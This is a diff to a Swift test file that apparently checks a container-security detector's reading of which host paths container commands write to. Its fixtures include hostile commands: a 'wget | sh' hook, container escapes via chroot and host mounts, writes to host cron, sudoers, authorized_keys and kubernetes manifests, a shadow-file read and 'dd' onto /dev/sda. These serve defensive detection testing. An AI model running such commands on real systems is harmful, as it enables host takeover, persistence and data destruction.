@@ -43,8 +43,9 @@ import Testing
         )
         deployment.process.args = ["nginx"]
         deployment.process.hooks = [["sh", "-c", "wget -qO- 'http://x'|sh"]]
-        #expect(deployment.hookCommands == ["sh -c wget -qO- http://x | sh"])
-        #expect(deployment.normalizedCommands == ["nginx", "sh -c wget -qO- http://x | sh"])
+        let commands = CommandReadings(of: deployment)
+        #expect(commands?.hooks == ["sh -c wget -qO- http://x | sh"])
+        #expect(commands?.normalized == ["nginx", "sh -c wget -qO- http://x | sh"])
     }
 
     @Test func `a service account's namespace is read from its name`() {
@@ -65,7 +66,11 @@ import Testing
         deployment.process.args = [
             "sh", "-c", "echo x >/tmp3f9a1c/etc/cron.d/1m; chroot /tmp3f9a1c sh; ls /tmp3f9a1cd",
         ]
-        #expect(deployment.hostCommands == ["sh -c echo x > host:/etc/cron.d/1m ; chroot host:/ sh ; ls /tmp3f9a1cd"])
+        #expect(
+            CommandReadings(of: deployment)?.onHost == [
+                "sh -c echo x > host:/etc/cron.d/1m ; chroot host:/ sh ; ls /tmp3f9a1cd"
+            ]
+        )
     }
 
     @Test func `a subdirectory mount and a way out of the working directory lead to the host`() {
@@ -79,9 +84,33 @@ import Testing
             ["sh", "-c", "echo y >> ../../../../etc/crontab"], ["ls", "/proc/1/root/root"], ["ls", "/"],
         ]
         #expect(
-            deployment.hostCommands == [
+            CommandReadings(of: deployment)?.onHost == [
                 "cat host:/etc/shadow", "sh -c echo y >> host:/etc/crontab", "ls host:/root",
             ]
         )
+    }
+
+    @Test(arguments: [
+        ("echo x > /h/etc/cron.d/1m ; cat /h/etc/shadow", ["host:/etc/cron.d/1m"]),
+        ("cp /cfg/a.yaml /h/etc/kubernetes/manifests/", ["host:/etc/kubernetes/manifests"]),
+        ("chroot /h sh -c 'echo k >> /root/.ssh/authorized_keys'", ["host:/root/.ssh/authorized_keys"]),
+        ("chroot /h crontab -l", ["host:/var/spool/cron"]),
+        (
+            "curl -s http://x/y -o /h/tmp/setup && tee -a /tmp/l /h/etc/sudoers",
+            ["host:/tmp/setup", "/tmp/l", "host:/etc/sudoers"]
+        ),
+        ("sed -i s/a/b/ /h/etc/ssh/sshd_config | dd if=/x of=/dev/sda", ["host:/etc/ssh/sshd_config", "/dev/sda"]),
+        ("(echo > /dev/tcp/db/1) 2>/dev/null", ["/dev/tcp/db/1)", "/dev/null"]),
+        ("cat k >> ~/.ssh/authorized_keys", ["~/.ssh/authorized_keys"]),
+        ("cat /h/etc/crontab", []), ("nginx -g daemon", []),
+    ])
+    func `what a command writes to is told`(command: String, paths: [String]) {
+        var deployment = ContainerDeployment(
+            event: .init(action: .containerCreate, dataset: .dockerAPI),
+            route: .dockerAPI
+        )
+        deployment.host.mounts = [.init(source: HostPath("/"), target: "/h", isReadOnly: false)]
+        deployment.process.args = ["sh", "-c", command]
+        #expect(CommandReadings(of: deployment)?.writes == paths)
     }
 }
